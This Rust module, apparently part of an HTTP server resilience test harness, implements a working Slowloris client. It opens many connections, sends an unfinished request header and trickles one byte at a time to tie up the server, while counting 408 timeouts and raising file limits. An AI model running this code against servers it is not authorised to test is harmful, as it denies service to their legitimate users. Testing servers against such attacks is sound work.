//! Slowloris: connections whose request headers trickle in and never end. It knows no
//! server and judges no answer.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};

/// Each connection's next byte comes after so long.
const PACE: Duration = Duration::from_secs(1);
/// So many have theirs at once.
const AT_ONCE: usize = 25;

/// Clients in the middle of a header.
#[derive(Debug)]
pub struct Slowloris {
    streams: Vec<TcpStream>,
    told: usize,
}

impl Slowloris {
    /// Raises this process's limit of open files for `connections` of them, both ends
    /// included; servers that it starts inherit the limit.
    ///
    /// # Errors
    /// The hard limit is lower.
    pub fn make_room(connections: usize) -> Result<()> {
        let needed = connections as u64 + 1_000;
        let limit = getrlimit(Resource::Nofile);
        if limit.current.is_none_or(|current| current >= needed) {
            return Ok(());
        }
        let raised = Rlimit {
            current: Some(needed),
            maximum: limit.maximum,
        };
        setrlimit(Resource::Nofile, raised)
            .with_context(|| format!("raise the limit of open files to {needed}"))
    }

    /// Opens the connections, each with the beginning of a request.
    ///
    /// # Errors
    /// One cannot be opened.
    pub fn open(target: SocketAddr, connections: usize) -> Result<Self> {
        let open =
            |nth| begin(target).with_context(|| format!("open connection {nth} of {connections}"));
        Ok(Self {
            streams: (0..connections).map(open).collect::<Result<_>>()?,
            told: 0,
        })
    }

    /// How many are open.
    pub fn connections(&self) -> usize {
        self.streams.len()
    }

    /// How many the server has told that their time is over (408).
    pub fn told(&self) -> usize {
        self.told
    }

    /// Goes on with all headers until the server has closed all connections, or `over`.
    pub fn trickle(&mut self, over: &AtomicBool) {
        while !self.streams.is_empty() && !over.load(Ordering::Relaxed) {
            let begun = Instant::now();
            let (told, count) = (&mut self.told, self.streams.len() as u32);
            let mut nth = 0;
            self.streams.retain_mut(|stream| {
                if nth % AT_ONCE as u32 == 0 && !over.load(Ordering::Relaxed) {
                    std::thread::sleep((PACE * nth / count).saturating_sub(begun.elapsed()));
                }
                nth += 1;
                let answer = next_byte(stream);
                *told += usize::from(answer.as_deref() == Some(b"HTTP/1.1 408"));
                answer.is_none()
            });
            std::thread::sleep(PACE.saturating_sub(begun.elapsed()));
        }
    }
}

fn begin(target: SocketAddr) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect(target)?;
    // Reset: thousands of ports in TIME_WAIT would be missed by what runs beside it.
    socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
    stream.set_nodelay(true)?;
    stream.write_all(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// Sends one more byte, or what came instead.
fn next_byte(stream: &mut TcpStream) -> Option<Vec<u8>> {
    let mut answer = vec![0; 12];
    match stream.read(&mut answer) {
        Err(error) if error.kind() == ErrorKind::WouldBlock => {
            // A refusal that crosses it is read in the next round.
            let _ = stream.write(b"x");
            None
        }
        read => {
            answer.truncate(read.unwrap_or(0));
            Some(answer)
        }
    }
}
